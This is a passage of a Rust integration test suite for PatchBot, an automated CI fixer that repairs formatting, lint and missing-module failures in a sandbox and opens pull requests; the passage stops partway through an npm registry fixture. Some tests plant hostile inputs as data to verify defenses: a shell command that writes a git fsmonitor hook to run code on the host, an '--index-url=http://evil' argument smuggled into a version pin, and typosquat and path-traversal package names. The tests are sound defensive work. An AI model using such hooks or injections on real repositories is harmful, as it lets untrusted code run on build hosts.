//! PatchBot end to end: real git repositories in temp dirs, real pinned tools (provisioned
//! from PyPI and npm on first use into a shared cache), the real local jail.
//!
//! The tool cache is `$SENTINEL_TOOL_CACHE`, or `target/tmp/sentinel-tool-cache`, so
//! repeated runs do not reinstall.

#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use sentinel_events::FailureType;
use sentinel_forge::{Forge, LocalGitForge, PullRequestRequest, RepoRef};
use sentinel_patchbot::{
    FixAttempt, FixRequest, FixStatus, PatchBot, PatchBotConfig, Tool, ToolCache,
};
use sentinel_sandbox::{Isolation, LocalJail, Sandbox};
use tempfile::TempDir;

fn tool_cache() -> PathBuf {
    std::env::var_os("SENTINEL_TOOL_CACHE")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_TARGET_TMPDIR")).join("sentinel-tool-cache"))
}

async fn bot() -> PatchBot {
    let jail = LocalJail::detect().await;
    eprintln!("sandbox: {}", jail.describe());
    let mut config = PatchBotConfig::new(tool_cache(), Arc::new(jail));
    config.command_timeout = Duration::from_secs(120);
    PatchBot::new(config)
}

/// git as the test repositories' author.
fn git(dir: &Path, args: &[&str]) -> String {
    sentinel_forge::testing::git_as(dir, args, "Dev", "dev@example.invalid")
}

/// A repository with `files` committed on `main`; returns it and the commit.
fn repo(files: &[(&str, &str)]) -> (TempDir, String) {
    let dir = TempDir::new().unwrap();
    git(dir.path(), &["init", "--quiet"]);
    for (path, contents) in files {
        let path = dir.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, contents).unwrap();
    }
    git(dir.path(), &["add", "."]);
    git(dir.path(), &["commit", "--quiet", "-m", "initial"]);
    let sha = git(dir.path(), &["rev-parse", "HEAD"]);
    (dir, sha)
}

/// What the original repository looks like; must not change.
fn snapshot(dir: &Path) -> (String, String, Vec<(String, Vec<u8>)>) {
    let mut files: Vec<(String, Vec<u8>)> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().unwrap().is_file())
        .map(|e| {
            (
                e.file_name().to_string_lossy().into_owned(),
                std::fs::read(e.path()).unwrap(),
            )
        })
        .collect();
    files.sort();
    (
        git(dir, &["rev-parse", "HEAD"]),
        git(dir, &["status", "--porcelain", "--untracked-files=all"]),
        files,
    )
}

fn request(
    repo: &Path,
    commit: &str,
    failure_type: FailureType,
    command: &str,
    hint: Option<&str>,
) -> FixRequest {
    FixRequest {
        task_id: uuid::Uuid::new_v4(),
        repository: repo.display().to_string(),
        commit: commit.into(),
        command: command.into(),
        failure_type,
        tool: hint.map(str::to_string),
        test_command: None,
        log_excerpt: String::new(),
        history: Default::default(),
    }
}

fn assert_fixed(attempt: &FixAttempt) {
    assert_eq!(
        attempt.status,
        FixStatus::Fixed,
        "{}\nbaseline: {:#?}\nfix: {:#?}\nvalidation: {:#?}",
        attempt.reason,
        attempt.baseline,
        attempt.fix_steps,
        attempt.validation
    );
    assert!(attempt.baseline.as_ref().unwrap().exit_code != 0);
    assert!(attempt.validation.iter().all(|s| s.exit_code == 0));
    assert!(attempt.repo_dir().unwrap().join(".git").is_file());
}

const UGLY_PY: &str = "import sys\nx = {  'a':37,'b':42,\n'c':927}\ndef f(a,b):\n  return a+b\n\
                       print(f(x['a'],len(sys.argv)))\n";

#[tokio::test]
async fn black_formatting_is_fixed_validated_committed_and_pushed() {
    let (origin, sha) = repo(&[("app.py", UGLY_PY), ("README.md", "demo\n")]);
    let before = snapshot(origin.path());
    let bot = bot().await;
    let mut req = request(
        origin.path(),
        &sha,
        FailureType::Formatting,
        "black --check .",
        Some("black"),
    );
    req.test_command = Some("python3 app.py".into());
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("black"));
    assert_eq!(
        attempt.tool_versions["black"],
        sentinel_patchbot::tools::BLACK_VERSION
    );
    assert_eq!(attempt.base_commit.as_deref(), Some(sha.as_str()));
    assert_eq!(attempt.files_changed, ["app.py"]);
    assert!(
        attempt.diff.contains("-x = {  'a':37,'b':42,"),
        "{}",
        attempt.diff
    );
    assert!(
        attempt
            .diff
            .contains("+x = {\"a\": 37, \"b\": 42, \"c\": 927}")
    );
    assert_eq!(attempt.validation.len(), 2);
    assert!((attempt.confidence - 0.95).abs() < 1e-9);
    assert!(
        attempt
            .baseline
            .as_ref()
            .unwrap()
            .output_tail
            .contains("would reformat"),
        "{:?}",
        attempt.baseline
    );
    assert!(attempt.protected_paths_touched.is_empty());

    let commit = bot
        .commit(&attempt, "black would reformat app.py")
        .await
        .unwrap();
    let work = attempt.repo_dir().unwrap();
    assert_eq!(git(&work, &["rev-parse", "HEAD"]), commit);
    assert_eq!(git(&work, &["rev-parse", "HEAD^"]), sha);
    assert_eq!(
        git(&work, &["log", "-1", "--format=%an <%ae>|%cn <%ce>"]),
        "Sentinel PatchBot <patchbot@sentinel.invalid>|Sentinel PatchBot <patchbot@sentinel.invalid>"
    );
    assert_eq!(
        git(&work, &["log", "-1", "--format=%B"]),
        "Fix: black would reformat app.py\n\nGenerated by PatchBot"
    );
    assert_eq!(git(&work, &["status", "--porcelain"]), "");
    assert_eq!(bot.commit(&attempt, "again").await.unwrap(), commit);

    // The committed tree passes the pinned black, run directly on the host.
    let black = bot.tool_cache().ensure(Tool::Black).await.unwrap();
    let check = std::process::Command::new(black.bin_dir.join("black"))
        .args(["--check", "."])
        .current_dir(&work)
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stderr)
    );

    // Push and open the pull request through the local forge.
    let records = TempDir::new().unwrap();
    let forge = LocalGitForge::new(records.path());
    let repo_ref = RepoRef::new(origin.path().display().to_string());
    let branch = format!("sentinel/fix-{}", req.task_id);
    let pushed = forge.push_branch(&repo_ref, &work, &branch).await.unwrap();
    assert_eq!(pushed.commit, commit);
    let pr = forge
        .open_pull_request(&PullRequestRequest {
            repository: repo_ref.to_string(),
            branch: branch.clone(),
            base: "main".into(),
            title: "Fix: black would reformat app.py".into(),
            body: attempt.diff.clone(),
            draft: false,
            labels: vec![],
        })
        .await
        .unwrap();
    assert_eq!(pr.head_commit, commit);

    // The original's checked-out branch, working tree and files are untouched.
    assert_eq!(snapshot(origin.path()), before);
    assert_eq!(git(origin.path(), &["rev-parse", &branch]), commit);
}

#[tokio::test]
async fn ruff_format_is_fixed_and_validated() {
    let (origin, sha) = repo(&[("pkg/mod.py", UGLY_PY)]);
    let before = snapshot(origin.path());
    let bot = bot().await;
    let req = request(
        origin.path(),
        &sha,
        FailureType::Formatting,
        "ruff format --check .",
        Some("ruff-format"),
    );
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("ruff_format"));
    assert_eq!(
        attempt.tool_versions["ruff"],
        sentinel_patchbot::tools::RUFF_VERSION
    );
    assert_eq!(attempt.files_changed, ["pkg/mod.py"]);
    assert_eq!(attempt.fix_steps[0].command, "ruff format .");
    bot.commit(&attempt, "Fix: ruff format").await.unwrap();
    assert_eq!(
        git(&attempt.repo_dir().unwrap(), &["log", "-1", "--format=%s"]),
        "Fix: ruff format"
    );
    let ruff = bot.tool_cache().ensure(Tool::Ruff).await.unwrap();
    let check = std::process::Command::new(ruff.bin_dir.join("ruff"))
        .args(["format", "--check", "--no-cache", "."])
        .current_dir(attempt.repo_dir().unwrap())
        .output()
        .unwrap();
    assert!(check.status.success());
    assert_eq!(snapshot(origin.path()), before);
}

#[tokio::test]
async fn an_unused_import_is_removed_by_ruff_check_fix() {
    let (origin, sha) = repo(&[(
        "app.py",
        "import os\nimport sys\n\n\ndef main():\n    return len(sys.argv)\n",
    )]);
    let bot = bot().await;
    let mut req = request(
        origin.path(),
        &sha,
        FailureType::Linting,
        "ruff check .",
        Some("ruff"),
    );
    req.test_command = Some("python3 -c 'import app; assert app.main() >= 0'".into());
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("ruff_fix"));
    assert!(attempt.diff.contains("-import os"), "{}", attempt.diff);
    assert!(!attempt.diff.contains("-import sys"));
    assert!(
        attempt
            .baseline
            .as_ref()
            .unwrap()
            .output_tail
            .contains("F401"),
        "{:?}",
        attempt.baseline
    );
    assert_eq!(attempt.validation.len(), 2);
    assert!((attempt.confidence - 0.9).abs() < 1e-9);
}

#[tokio::test]
async fn flake8_violations_are_fixed_through_ruff_and_checked_by_flake8() {
    let source = "import os\nimport json\n\nprint(json.dumps({}))   \n";
    let (origin, sha) = repo(&[("app.py", source)]);
    let bot = bot().await;
    let mut req = request(
        origin.path(),
        &sha,
        FailureType::Linting,
        "flake8 .",
        Some("flake8"),
    );
    req.log_excerpt = "./app.py:1:1: F401 'os' imported but unused\n./app.py:4:22: W291 \
                       trailing whitespace\n"
        .into();
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("flake8_via_ruff"));
    assert_eq!(
        attempt.fix_steps[0].command,
        "ruff check --fix --select F401,W291 ."
    );
    assert_eq!(
        attempt.tool_versions["flake8"],
        sentinel_patchbot::tools::FLAKE8_VERSION
    );
    assert_eq!(attempt.validation[0].command, "flake8 .");
}

#[tokio::test]
async fn prettier_formatting_is_fixed() {
    let (origin, sha) = repo(&[(
        "src/index.js",
        "const a = {b:1,\n  c:2}\nfunction f( x ){return x*2}\nconsole.log(f(a.b))\n",
    )]);
    let bot = bot().await;
    let req = request(
        origin.path(),
        &sha,
        FailureType::Formatting,
        "npx prettier --check src",
        None,
    );
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("prettier"));
    assert_eq!(attempt.fix_steps[0].command, "prettier src --write");
    assert!(
        attempt.diff.contains("+const a = { b: 1, c: 2 };"),
        "{}",
        attempt.diff
    );
}

#[tokio::test]
async fn infrastructure_failures_are_not_fixable_and_nothing_is_checked_out() {
    let (origin, sha) = repo(&[("app.py", UGLY_PY)]);
    let bot = bot().await;
    let mut req = request(
        origin.path(),
        &sha,
        FailureType::Infrastructure,
        "black --check .",
        Some("black"),
    );
    req.log_excerpt = "Could not resolve host: pypi.org".into();
    let attempt = bot.attempt(&req).await.unwrap();
    assert_eq!(attempt.status, FixStatus::NotFixable);
    assert_eq!(attempt.base_commit, None);
    assert!(attempt.workdir.is_none());
    assert_eq!(attempt.confidence, 0.0);
    assert!(bot.commit(&attempt, "x").await.is_err());

    let req = request(
        origin.path(),
        &sha,
        FailureType::TestFailure,
        "pytest",
        None,
    );
    let attempt = bot.attempt(&req).await.unwrap();
    assert_eq!(attempt.status, FixStatus::NoFix);
    assert!(
        attempt.reason.contains("no deterministic strategy"),
        "{}",
        attempt.reason
    );
}

#[tokio::test]
async fn a_candidate_that_breaks_the_tests_is_rejected_and_the_original_untouched() {
    let (origin, sha) = repo(&[("app.py", UGLY_PY)]);
    // Uncommitted local work in the original must survive too.
    std::fs::write(origin.path().join("notes.txt"), "wip\n").unwrap();
    let before = snapshot(origin.path());
    let bot = bot().await;
    let mut req = request(
        origin.path(),
        &sha,
        FailureType::Formatting,
        "black --check .",
        None,
    );
    req.test_command = Some("echo 'test_app.py F' && exit 1".into());
    let attempt = bot.attempt(&req).await.unwrap();
    assert_eq!(attempt.status, FixStatus::NoFix, "{}", attempt.reason);
    assert!(
        attempt.reason.contains("validation failed"),
        "{}",
        attempt.reason
    );
    assert_eq!(attempt.validation.len(), 2);
    assert_eq!(attempt.validation[0].exit_code, 0);
    assert_eq!(attempt.validation[1].exit_code, 1);
    assert!(
        !attempt.diff.is_empty(),
        "the rejected diff is still evidence"
    );
    assert!(attempt.workdir.is_none());
    assert_eq!(attempt.confidence, 0.0);
    assert_eq!(snapshot(origin.path()), before);
}

#[tokio::test]
async fn a_failure_that_does_not_reproduce_is_not_fixed() {
    let (origin, sha) = repo(&[("app.py", "x = 1\n")]);
    let bot = bot().await;
    let req = request(
        origin.path(),
        &sha,
        FailureType::Formatting,
        "black --check .",
        None,
    );
    let attempt = bot.attempt(&req).await.unwrap();
    assert_eq!(attempt.status, FixStatus::NoFix);
    assert!(
        attempt.reason.contains("passes at this commit"),
        "{}",
        attempt.reason
    );
    assert_eq!(attempt.baseline.as_ref().unwrap().exit_code, 0);
    assert!(attempt.fix_steps.is_empty());
}

/// A local package index speaking the PyPI JSON API (`/pypi/<name>/json`) and the simple
/// repository API (`/simple/<name>/`, PEP 503) with one real wheel built by the test:
/// `sentinelfixture` (first released 2020), `youngpkg` (released yesterday); every other
/// name is unknown (404) and `brokenpkg` answers 500. Stands in for PyPI, which tests
/// must not reach.
struct LocalIndex {
    url: String,
    _dir: TempDir,
}

async fn local_index() -> LocalIndex {
    use axum::extract::{Path as UrlPath, State};
    use axum::http::StatusCode;
    use axum::response::{Html, IntoResponse};
    use axum::routing::get;

    let dir = TempDir::new().unwrap();
    let wheel = "sentinelfixture-1.0-py3-none-any.whl";
    let script = format!(
        "import zipfile\nz = zipfile.ZipFile({:?}, 'w')\n\
         z.writestr('sentinelfixture/__init__.py', 'VALUE = 42\\n')\n\
         z.writestr('sentinelfixture-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: sentinelfixture\\nVersion: 1.0\\n')\n\
         z.writestr('sentinelfixture-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
         z.writestr('sentinelfixture-1.0.dist-info/RECORD', '')\nz.close()\n",
        dir.path().join(wheel).display().to_string()
    );
    let out = std::process::Command::new("python3")
        .args(["-c", &script])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let bytes = std::sync::Arc::new(std::fs::read(dir.path().join(wheel)).unwrap());

    async fn json(UrlPath(name): UrlPath<String>) -> axum::response::Response {
        let released = match name.as_str() {
            "sentinelfixture" => "2020-01-02T03:04:05.000000Z".to_string(),
            "youngpkg" => (chrono_like_yesterday()).to_string(),
            "brokenpkg" => return StatusCode::INTERNAL_SERVER_ERROR.into_response(),
            _ => return (StatusCode::NOT_FOUND, "Not Found").into_response(),
        };
        axum::Json(serde_json::json!({
            "info": {"name": name, "version": "1.0"},
            "releases": {"1.0": [{"filename": format!("{name}-1.0-py3-none-any.whl"),
                                  "upload_time_iso_8601": released}]},
            "urls": [],
        }))
        .into_response()
    }
    async fn simple(UrlPath(name): UrlPath<String>) -> axum::response::Response {
        if name != "sentinelfixture" {
            return StatusCode::NOT_FOUND.into_response();
        }
        Html(
            "<!DOCTYPE html><html><body><a href=\"/files/sentinelfixture-1.0-py3-none-any.whl\">\
             sentinelfixture-1.0-py3-none-any.whl</a></body></html>",
        )
        .into_response()
    }
    async fn file(State(bytes): State<std::sync::Arc<Vec<u8>>>) -> Vec<u8> {
        bytes.as_ref().clone()
    }
    let app = axum::Router::new()
        .route("/pypi/{name}/json", get(json))
        .route("/simple/{name}/", get(simple))
        .route("/files/{file}", get(file))
        .with_state(bytes);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    LocalIndex {
        url: format!("http://{addr}"),
        _dir: dir,
    }
}

/// RFC 3339 time one day ago (std only).
fn chrono_like_yesterday() -> String {
    let secs = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        - 86_400;
    let out = std::process::Command::new("date")
        .args(["-u", "-d", &format!("@{secs}"), "+%Y-%m-%dT%H:%M:%SZ"])
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

async fn bot_with_index(index: &LocalIndex) -> PatchBot {
    let jail = LocalJail::detect().await;
    let mut config = PatchBotConfig::new(tool_cache(), Arc::new(jail));
    config.command_timeout = Duration::from_secs(120);
    config.python_index = Some(sentinel_patchbot::index::PackageIndex::new(
        sentinel_patchbot::index::Ecosystem::Python,
        &index.url,
    ));
    config.pip_index_url = Some(format!("{}/simple/", index.url));
    PatchBot::new(config)
}

/// The index guard on its own: known and old → the index's name; unknown (404) or first
/// released yesterday → refused with a reason; a 500 → a (transient) error.
#[tokio::test]
async fn the_package_index_guard_refuses_unknown_and_young_names() {
    use sentinel_patchbot::index::{Ecosystem, PackageIndex, Verdict};
    let index = local_index().await;
    let pypi = PackageIndex::new(Ecosystem::Python, &index.url);
    assert_eq!(
        pypi.check("sentinelfixture").await.unwrap(),
        Verdict::Known {
            name: "sentinelfixture".into(),
            latest: Some("1.0".into())
        }
    );
    match pypi.check("reqeusts").await.unwrap() {
        Verdict::Refused(r) => assert!(r.contains("does not exist"), "{r}"),
        other => panic!("{other:?}"),
    }
    match pypi.check("youngpkg").await.unwrap() {
        Verdict::Refused(r) => assert!(r.contains("first published 1 days ago"), "{r}"),
        other => panic!("{other:?}"),
    }
    assert!(
        pypi.with_min_age(Duration::ZERO)
            .check("youngpkg")
            .await
            .unwrap()
            == Verdict::Known {
                name: "youngpkg".into(),
                latest: Some("1.0".into())
            }
    );
    let err = PackageIndex::new(Ecosystem::Python, &index.url)
        .check("brokenpkg")
        .await
        .unwrap_err();
    assert!(err.is_transient(), "{err}");
    match PackageIndex::new(Ecosystem::Python, &index.url)
        .check("../admin")
        .await
        .unwrap()
    {
        Verdict::Refused(r) => assert!(r.contains("not a valid package name"), "{r}"),
        other => panic!("{other:?}"),
    }
}

/// A real `ModuleNotFoundError` fixed end to end: the distribution passes the index guard,
/// is added to requirements.txt, pip installs the requirements from the (local) index in
/// the sandbox, and the failing command then passes offline.
#[tokio::test]
async fn a_missing_module_is_added_installed_and_validated() {
    let index = local_index().await;
    let (origin, sha) = repo(&[
        (
            "app.py",
            "import sentinelfixture\nprint(sentinelfixture.VALUE)\n",
        ),
        ("requirements.txt", "# runtime dependencies\n"),
    ]);
    let bot = bot_with_index(&index).await;
    let mut req = request(
        origin.path(),
        &sha,
        FailureType::ImportError,
        "python3 app.py",
        None,
    );
    req.log_excerpt = "Traceback (most recent call last):\n  File \"app.py\", line 1, in \
                       <module>\nModuleNotFoundError: No module named 'sentinelfixture'\n"
        .into();
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("add_requirement"));
    assert_eq!(attempt.files_changed, ["requirements.txt"]);
    assert!(
        attempt.diff.contains("+sentinelfixture"),
        "{}",
        attempt.diff
    );
    assert!(attempt.validation[0].output_tail.contains("42"));

    // A name the index does not know, one too young, one already listed, a stdlib module
    // or the repository's own module: no candidate, each with its reason.
    let (origin, sha) = repo(&[
        ("app.py", "import helpers\n"),
        ("helpers/__init__.py", ""),
        ("requirements.txt", "sentinelfixture\n"),
    ]);
    req.command = "false".into();
    for (module, expect) in [
        ("reqeusts", "does not exist"),
        ("youngpkg", "first published"),
        ("sentinelfixture", "already a dependency"),
        ("tomllib", "standard-library"),
        ("helpers", "repository's own module"),
    ] {
        req.repository = origin.path().display().to_string();
        req.commit = sha.clone();
        req.log_excerpt = format!("ModuleNotFoundError: No module named '{module}'");
        let attempt = bot.attempt(&req).await.unwrap();
        assert_eq!(attempt.status, FixStatus::NoFix);
        assert!(
            attempt.reason.contains(expect),
            "{module}: {}",
            attempt.reason
        );
        assert!(attempt.diff.is_empty());
    }
}

#[tokio::test]
async fn sandboxed_commands_cannot_plant_git_config_for_the_host() {
    let jail = LocalJail::with_isolation(Isolation::Bubblewrap)
        .await
        .expect("this test needs bubblewrap isolation (apt-get install bubblewrap)");
    let mut config = PatchBotConfig::new(tool_cache(), Arc::new(jail));
    config.command_timeout = Duration::from_secs(120);
    let bot = PatchBot::new(config);
    let marker = TempDir::new_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let pwned = marker.path().join("pwned");
    let (origin, sha) = repo(&[("app.py", UGLY_PY)]);
    // The "failing command" a malicious repository ships tries to make the host's next git
    // command run its code: via the real git dir, and by replacing the `.git` file.
    let evil = format!(
        "gitdir=$(sed 's/^gitdir: //' .git); \
         printf '[core]\\n\\tfsmonitor = touch {p}\\n' >> \"$gitdir/config\"; \
         mkdir -p evil && cp -r \"$gitdir\"/. evil/ 2>/dev/null; \
         printf '[core]\\n\\tfsmonitor = touch {p}\\n' >> evil/config; \
         rm -f .git && echo 'gitdir: evil' > .git; \
         black --check .",
        p = pwned.display()
    );
    let req = request(
        origin.path(),
        &sha,
        FailureType::Formatting,
        &evil,
        Some("black"),
    );
    let attempt = bot.attempt(&req).await.unwrap();
    let base = attempt.baseline.as_ref().unwrap();
    assert!(
        base.output_tail.contains("Read-only file system"),
        "{}",
        base.output_tail
    );
    assert!(!pwned.exists(), "host git ran a sandbox-planted fsmonitor");
    if let Some(work) = attempt.repo_dir() {
        bot.commit(&attempt, "x").await.unwrap();
        assert!(!pwned.exists());
        let dot_git = std::fs::read_to_string(work.join(".git")).unwrap();
        assert!(!dot_git.contains("evil"), "{dot_git}");
    }
}

#[tokio::test]
async fn a_bad_configuration_is_reported_by_every_attempt() {
    let mut config = PatchBotConfig::new(tool_cache(), Arc::new(LocalJail::detect().await));
    config
        .tool_versions
        .insert(Tool::Black, "--index-url=http://evil".into());
    let bot = PatchBot::new(config);
    let (origin, sha) = repo(&[("app.py", UGLY_PY)]);
    let req = request(
        origin.path(),
        &sha,
        FailureType::Formatting,
        "black --check .",
        None,
    );
    let err = bot.attempt(&req).await.unwrap_err();
    assert!(err.to_string().contains("cannot pin black"), "{err}");
}

#[tokio::test]
async fn concurrent_installs_of_one_tool_share_a_single_install() {
    let root = TempDir::new_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let cache = Arc::new(ToolCache::new(root.path()));
    let mut tasks = Vec::new();
    for _ in 0..3 {
        let cache = Arc::clone(&cache);
        tasks.push(tokio::spawn(
            async move { cache.ensure(Tool::Flake8).await },
        ));
    }
    // A second cache on the same root, like another process.
    let other = ToolCache::new(root.path())
        .ensure(Tool::Flake8)
        .await
        .unwrap();
    for t in tasks {
        assert_eq!(t.await.unwrap().unwrap(), other);
    }
    assert_eq!(other.version, sentinel_patchbot::tools::FLAKE8_VERSION);
    let installs: Vec<_> = std::fs::read_dir(root.path().join("python"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(installs.len(), 1, "{installs:?}");
    let out = std::process::Command::new(other.bin_dir.join("flake8"))
        .arg("--version")
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).starts_with(&other.version));
}

#[tokio::test]
async fn rustfmt_from_the_toolchain_fixes_cargo_fmt_failures() {
    let (origin, sha) = repo(&[
        (
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        ),
        ("src/lib.rs", "pub fn add(a:u32,b:u32)->u32{a+b}\n"),
    ]);
    let bot = bot().await;
    let req = request(
        origin.path(),
        &sha,
        FailureType::Formatting,
        "cargo fmt --all -- --check",
        Some("rustfmt"),
    );
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("cargo_fmt"));
    assert_eq!(attempt.fix_steps[0].command, "cargo fmt --all");
    assert!(
        attempt.tool_versions["rustfmt"].starts_with("rustfmt "),
        "{:?}",
        attempt.tool_versions
    );
    assert_eq!(attempt.files_changed, ["src/lib.rs"]);
    assert!(
        attempt
            .diff
            .contains("+pub fn add(a: u32, b: u32) -> u32 {"),
        "{}",
        attempt.diff
    );
}

#[tokio::test]
async fn isort_fixes_unsorted_imports() {
    let (origin, sha) = repo(&[(
        "app.py",
        "import sys\nimport os\nimport json\n\nprint(os.sep, sys.argv, json.dumps(1))\n",
    )]);
    let bot = bot().await;
    let mut req = request(
        origin.path(),
        &sha,
        FailureType::Formatting,
        "isort --check-only --diff .",
        None,
    );
    req.test_command = Some("python3 app.py".into());
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("isort"));
    assert_eq!(attempt.fix_steps[0].command, "isort .");
    assert_eq!(attempt.tool_versions["isort"], "9.0.2");
    assert!(
        attempt
            .diff
            .contains("-import sys\n-import os\n import json\n+import os\n+import sys"),
        "{}",
        attempt.diff
    );
}

/// Real clippy on a real crate: `needless_return` has a machine-applicable fix, which
/// `cargo clippy --fix` applies; the original `cargo clippy -- -D warnings` then passes and
/// so does `cargo test`.
#[tokio::test]
async fn clippy_fix_applies_machine_applicable_suggestions() {
    let (origin, sha) = repo(&[
        (
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        ),
        (
            "src/lib.rs",
            "pub fn add(a: u32, b: u32) -> u32 {\n    return a + b;\n}\n\n#[test]\nfn adds() {\n    \
             assert_eq!(add(1, 2), 3);\n}\n",
        ),
        (".gitignore", "target/\n"),
    ]);
    let bot = bot().await;
    let mut req = request(
        origin.path(),
        &sha,
        FailureType::Linting,
        "cargo clippy --all-targets -- -D warnings",
        Some("clippy"),
    );
    req.test_command = Some("cargo test --quiet".into());
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("clippy_fix"));
    assert!(attempt.tool_versions["clippy"].starts_with("clippy "));
    assert_eq!(attempt.files_changed, ["src/lib.rs"]);
    assert!(
        attempt.diff.contains("-    return a + b;\n+    a + b\n"),
        "{}",
        attempt.diff
    );
}

fn copy_tree(from: &Path, to: &Path) {
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
            copy_tree(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

#[derive(serde::Deserialize)]
struct Case {
    command: String,
    expect: String,
    test_command: Option<String>,
}

/// The project's own case set (`crates/patchbot/cases/<name>/{case.toml,repo/}`): real
/// repositories with real failures in Python, JavaScript/TypeScript and Rust. Each runs as
/// `sentinel fix` does — the failing command is reproduced in the sandbox, its output
/// classified, then a fix generated and validated — and the outcome is compared with the
/// case's expectation (`fixed` or `unfixed`: no_fix or not_fixable). Fix success (cases
/// expected fixed that are fixed) must be ≥ 70%, and no case expected unfixed may be fixed.
#[tokio::test]
async fn the_case_set_is_fixed_at_least_70_percent() {
    let cases_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("cases");
    let mut names: Vec<String> = std::fs::read_dir(&cases_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let bot = bot().await;
    let catalogue = sentinel_classify::Catalogue::builtin().unwrap();
    let (mut expected_fixed, mut fixed, mut false_fixes) = (0, 0, Vec::new());
    let mut report = String::new();
    for name in &names {
        let dir = cases_dir.join(name);
        let case: Case =
            toml::from_str(&std::fs::read_to_string(dir.join("case.toml")).unwrap()).unwrap();
        let repo_dir = TempDir::new().unwrap();
        copy_tree(&dir.join("repo"), repo_dir.path());
        git(repo_dir.path(), &["init", "--quiet"]);
        git(repo_dir.path(), &["add", "."]);
        git(repo_dir.path(), &["commit", "--quiet", "-m", "case"]);
        let sha = git(repo_dir.path(), &["rev-parse", "HEAD"]);
        let repository = repo_dir.path().display().to_string();
        let run = bot
            .reproduce(&repository, &sha, &case.command)
            .await
            .unwrap();
        let mut c = catalogue.classify(run.output.as_bytes(), Some(&case.command));
        if c.failure_type == FailureType::Unknown
            && let Some(t) = sentinel_patchbot::strategy::implied_failure_type(&case.command)
        {
            c.failure_type = t;
        }
        let mut req = request(
            repo_dir.path(),
            &sha,
            c.failure_type,
            &case.command,
            c.tool.as_deref(),
        );
        req.test_command = case.test_command.clone();
        req.log_excerpt = run.output.clone();
        let attempt = bot.attempt(&req).await.unwrap();
        let got = match attempt.status {
            FixStatus::Fixed => "fixed",
            FixStatus::NoFix => "no_fix",
            FixStatus::NotFixable => "not_fixable",
        };
        if case.expect == "fixed" {
            expected_fixed += 1;
            if got == "fixed" {
                fixed += 1;
            }
        } else if got == "fixed" {
            false_fixes.push(name.clone());
        }
        report.push_str(&format!(
            "{name:40} {:>12} expect {:>8} got {:>11}  {}\n",
            c.failure_type.to_string(),
            case.expect,
            got,
            attempt.reason.lines().next().unwrap_or("")
        ));
    }
    let rate = f64::from(fixed) / f64::from(expected_fixed);
    eprintln!(
        "{report}\ncase set: {} cases, {fixed}/{expected_fixed} expected fixes made ({:.0}%), \
         {} false fixes",
        names.len(),
        rate * 100.0,
        false_fixes.len()
    );
    assert!(names.len() >= 20, "{} cases", names.len());
    assert!(
        false_fixes.is_empty(),
        "fixed cases expected unfixable: {false_fixes:?}"
    );
    assert!(rate >= 0.7, "fix success {:.0}% < 70%", rate * 100.0);
}

/// A local npm registry speaking the registry API's documented shapes: the packument at
/// `/<name>` (`name`, `dist-tags.latest`, `versions.<v>.dist.{tarball,shasum}`,
/// `time.created`) and the tarball it points at, built by the test with `tar`. Stands in
/// for registry.npmjs.org, which tests must not reach.
async fn local_npm_registry() -> (String, TempDir) {
    use axum::extract::{Path as UrlPath, State};
    use axum::http::StatusCode;
    use axum::response::IntoResponse;
    use axum::routing::get;

    let dir = TempDir::new().unwrap();
    let pkg = dir.path().join("package");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(
        pkg.join("package.json"),
        r#"{"name": "sentinel-pad", "version": "1.2.3", "main": "index.js"}"#,
    )
    .unwrap();
    std::fs::write(
        pkg.join("index.js"),
